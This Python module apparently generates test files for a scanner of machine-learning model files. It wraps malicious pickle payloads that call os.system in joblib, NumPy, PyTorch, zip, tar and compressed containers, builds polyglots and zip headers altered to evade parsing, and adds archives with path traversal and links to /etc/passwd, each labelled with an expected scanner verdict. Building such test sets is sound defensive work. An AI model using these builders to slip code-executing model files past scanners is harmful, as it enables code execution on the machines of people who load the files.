"""The same pickle inside something else: compressed, between arrays, in archives with headers that lie."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import Final

import joblib
import lz4.frame
import numpy as np
import zstandard

from .assembly import Attack, Call, Payload, push
from .opcodes import as_text

_NPY_HEADER: Final = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
_TORCH_MAGIC: Final = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."

CODECS: Final[dict[str, Callable[[bytes], bytes]]] = {
    "zlib": zlib.compress,
    "gzip": gzip.compress,
    "bzip2": bz2.compress,
    "xz": lzma.compress,
    "lzma": lambda data: lzma.compress(data, lzma.FORMAT_ALONE),
    "lz4": lz4.frame.compress,
}
"""What joblib unpacks by itself."""
_UNSIZED: Final = zstandard.ZstdCompressor(write_content_size=False)

Build = Callable[[Payload], bytes]


def npy(payload: bytes) -> bytes:
    """An array of objects."""
    return b"\x93NUMPY\x01\0" + struct.pack("<H", 118) + _NPY_HEADER.ljust(117) + b"\n" + payload


def torch_members(payload: bytes) -> dict[str, bytes]:
    """What is in a file of `torch.save`."""
    return {"archive/data.pkl": payload, "archive/version": b"3\n", "archive/byteorder": b"little"}


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    """A zip of these members."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, method)
    return buffer.getvalue()


def tarred(members: dict[str, bytes], **header: object) -> bytes:
    """A tar of these members, whose headers have these values."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            for key, value in header.items():
                setattr(info, key, value)
            archive.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


def in_directory(data: bytes, offset: int, value: bytes) -> bytes:
    """A zip with these bytes changed in the first entry of its central directory."""
    at = data.index(b"PK\x01\x02") + offset
    return data[:at] + value + data[at + len(value) :]


def in_local_header(data: bytes, offset: int, value: bytes) -> bytes:
    """A zip with these bytes changed in the first local header."""
    return data[:offset] + value + data[offset + len(value) :]


def _joblib_plain() -> bytes:
    buffer = io.BytesIO()
    joblib.dump({"a": np.arange(10.0), "b": np.array([1, "a"], dtype=object)}, buffer)
    return buffer.getvalue()


def _joblib_objects(payload: Payload) -> bytes:
    buffer = io.BytesIO()
    joblib.dump(np.array([None, "a"], dtype=object), buffer)
    data = buffer.getvalue()
    return data[: data.index(b"\x80\x05", 2)] + payload.pickle + b"."


def _raw_array_polyglot(payload: Payload, opcodes: Build = lambda payload: payload.pickle) -> bytes:
    """To joblib a file with one array; to pickle.load the array's padding and numbers are opcodes."""
    buffer = io.BytesIO()
    joblib.dump(np.full(1000, ord("N"), np.uint8), buffer)
    data = buffer.getvalue()
    numbers = data.index(b"N" * 1000)
    # The byte before the padding is its length, and both are free for joblib to skip: "(" and then "N" are opcodes.
    build = data.rindex(b"b", 0, numbers) + 1
    return data[:build] + b"(" + b"N" * 40 + opcodes(payload).ljust(1000, b"N") + data[numbers + 1000 :]


def _torch_legacy(payload: Payload) -> bytes:
    return _TORCH_MAGIC + pickle.dumps(1001, 2) + pickle.dumps({}, 2) + payload.pickle + pickle.dumps([], 2)


def _torch(payload: Payload) -> bytes:
    return zipped(torch_members(payload.pickle))


JOBLIB: Final[dict[str, Build]] = {
    **{f"joblib {name}": lambda p, pack=pack: pack(p.pickle) for name, pack in CODECS.items()},
    "joblib plain": lambda p: p.pickle,
    "joblib behind arrays": lambda p: _joblib_plain()[:-1] + push(Call("os:system", p.shell)) + b"0.",
    "joblib array of objects": _joblib_objects,
    "joblib array of objects in zlib": lambda p: zlib.compress(_joblib_objects(p)),
    "joblib zlib at level 0": lambda p: zlib.compress(p.pickle, 0),
    "joblib gzip with a name": lambda p: b"\x1f\x8b\x08\x08" + bytes(6) + b"x.pkl\0" + gzip.compress(p.pickle)[10:],
    "joblib bzip2 of two streams": lambda p: bz2.compress(p.pickle[:20]) + bz2.compress(p.pickle[20:]),
}
NUMPY: Final[dict[str, tuple[Build, str]]] = {
    "npy of objects": (lambda p: npy(p.pickle), "numpy"),
    "npy that is a pickle": (lambda p: p.pickle, "numpy"),
    "npz of objects": (lambda p: zipped({"a.npy": npy(p.pickle)}), "npz"),
    "npz of objects, deflated": (lambda p: zipped({"a.npy": npy(p.pickle)}, zipfile.ZIP_DEFLATED), "npz"),
    "npz of objects, bzip2": (lambda p: zipped({"a.npy": npy(p.pickle)}, zipfile.ZIP_BZIP2), "npz"),
    "npz of objects, lzma": (lambda p: zipped({"a.npy": npy(p.pickle)}, zipfile.ZIP_LZMA), "npz"),
    "npz of objects behind a local header": (
        lambda p: b"PK\3\4" + bytes(26) + zipped({"a.npy": npy(p.pickle)}),
        "npz",
    ),
    "npy named wrongly in npz": (lambda p: zipped({"x.txt": npy(p.pickle), "a.npy": npy(p.pickle)}), "npz"),
}
TORCH: Final[dict[str, tuple[Build, str]]] = {
    "torch zip": (_torch, "torch-zip"),
    "torch zip, deflated": (lambda p: zipped(torch_members(p.pickle), zipfile.ZIP_DEFLATED), "torch-zip"),
    "torch zip, bad CRC": (lambda p: in_directory(_torch(p), 16, b"\0\0\0\0"), ""),
    "torch zip, encrypted flag": (lambda p: in_directory(_torch(p), 8, b"\x01\0"), ""),
    "torch zip, patched-data flag": (lambda p: in_directory(_torch(p), 8, b"\x20\0"), ""),
    "torch zip, strong-encryption flag": (lambda p: in_directory(_torch(p), 8, b"\x40\0"), ""),
    "torch zip, other local name": (lambda p: _torch(p).replace(b"archive/data.pkl", b"archive/data.txt", 1), ""),
    "torch zip, other name in the directory": (lambda p: in_directory(_torch(p), 46, b"archive/data.txt"), ""),
    "torch zip, other local size": (lambda p: in_local_header(_torch(p), 18, b"\0\0\0\0"), "torch-zip"),
    "torch zip, version needed 255": (lambda p: in_directory(_torch(p), 6, b"\xff\0"), ""),
    "torch zip behind a pickle": (lambda p: p.pickle + _torch(p), "pickle"),
    "torch zip behind text": (lambda p: b"# a model\n" + _torch(p), "torch-zip"),
    "torch zip, second data.pkl": (
        lambda p: zipped({**torch_members(p.pickle), "archive/x/data.pkl": p.pickle}),
        "torch-zip",
    ),
    "torch zip, payload in another record": (
        lambda p: zipped({**torch_members(pickle.dumps({}, 2)), "archive/extra.pkl": p.pickle}),
        "torch-zip",
    ),
    "torch zip, payload as a storage": (
        lambda p: zipped({**torch_members(pickle.dumps({}, 2)), "archive/data/0": p.pickle}),
        "",
    ),
    "torch legacy": (_torch_legacy, "pickle-all"),
    "torch legacy, payload behind the keys": (
        lambda p: _TORCH_MAGIC + b"".join(pickle.dumps(part, 2) for part in (1001, {}, {}, [])) + p.pickle,
        "pickle-all",
    ),
}
ARCHIVES: Final[dict[str, Build]] = {
    "pickle in zip in zip": lambda p: zipped({"a.zip": zipped({"b.pkl": p.pickle})}),
    "zip in gzip in zip": lambda p: zipped({"a.gz": gzip.compress(zipped({"b.bin": p.pickle}))}),
    "tar": lambda p: tarred({"model/a.pkl": p.pickle}),
    "tar.gz": lambda p: gzip.compress(tarred({"a": p.pickle})),
    "tar.bz2": lambda p: bz2.compress(tarred({"a": p.pickle})),
    "tar.xz": lambda p: lzma.compress(tarred({"a": p.pickle})),
    "tar.zst": lambda p: zstandard.compress(tarred({"a": p.pickle})),
    "pickle in zstd": lambda p: zstandard.compress(p.pickle),
    "pickle in zstd of unknown size": lambda p: _UNSIZED.compress(p.pickle),
    "pickle in lz4 in zip": lambda p: zipped({"a.lz4": lz4.frame.compress(p.pickle)}),
    "keras zip with a pickle": lambda p: zipped({"config.json": b"{}", "metadata.json": b"{}", "assets/a": p.pickle}),
    "skops with a pickle": lambda p: zipped({"schema.json": b'{"protocol": 2}', "1.npy": npy(p.pickle)}),
    "zip with an absolute path": lambda p: zipped({"/etc/cron.d/x": b"x", "a.pkl": p.pickle}),
    "zip that leads out": lambda p: zipped({"../../x": b"x"}),
    "tar that leads out": lambda p: tarred({"../../x": b"x"}),
    "tar with a symbolic link": lambda p: tarred({"a": b""}, type=tarfile.SYMTYPE, linkname="/etc/passwd"),
    "tar with a hard link": lambda p: tarred({"a": b""}, type=tarfile.LNKTYPE, linkname="/etc/passwd"),
    "tar with a device": lambda p: tarred({"a": b""}, type=tarfile.CHRTYPE),
}
NOT_CLEAN: Final = frozenset(
    {
        *("torch zip behind text", "torch legacy, payload behind the keys"),
    }
)
"""What may also be UNKNOWN: bytes that the format does not explain, or that are packed in a way few readers know."""
POLYGLOTS: Final[dict[str, Build]] = {
    "pickle that is also text": lambda p: b"cos\nsystem\n(V" + p.shell.encode() + b"\ntR.",
    "tar whose first name is a pickle": lambda p: tarred({f"cos\nsystem\n(V{p.shell}\ntR.": b"x"}),
    "zip behind a pickle": lambda p: p.pickle + zipped({"a.txt": b"x"}),
    "safetensors behind a pickle": lambda p: p.pickle + struct.pack("<Q", 2) + b"{}",
    "raw array that is a pickle": _raw_array_polyglot,
    "raw array that calls by copy": lambda p: _raw_array_polyglot(p, as_text),
}


def attacks() -> Iterator[Attack]:
    """One file for each container."""
    for name, build in JOBLIB.items():
        yield Attack(name, "containers", build, "joblib", expected=_expected(name), suffix=".joblib")
    for suffix, group in ((".npz", NUMPY), (".pt", TORCH)):
        for name, (build, loader) in group.items():
            ends = ".npy" if loader == "numpy" else suffix
            yield Attack(name, "containers", build, loader, expected=_expected(name), suffix=ends)
    for name, build in ARCHIVES.items():
        yield Attack(
            name, "containers", build, "", expected=_expected(name), suffix=".zip" if "zip" in name else ".tar"
        )
    for name, build in POLYGLOTS.items():
        yield Attack(name, "containers", build, suffix=".bin")


def _expected(name: str) -> str:
    return "UNKNOWN" if name in NOT_CLEAN else "MALICIOUS"
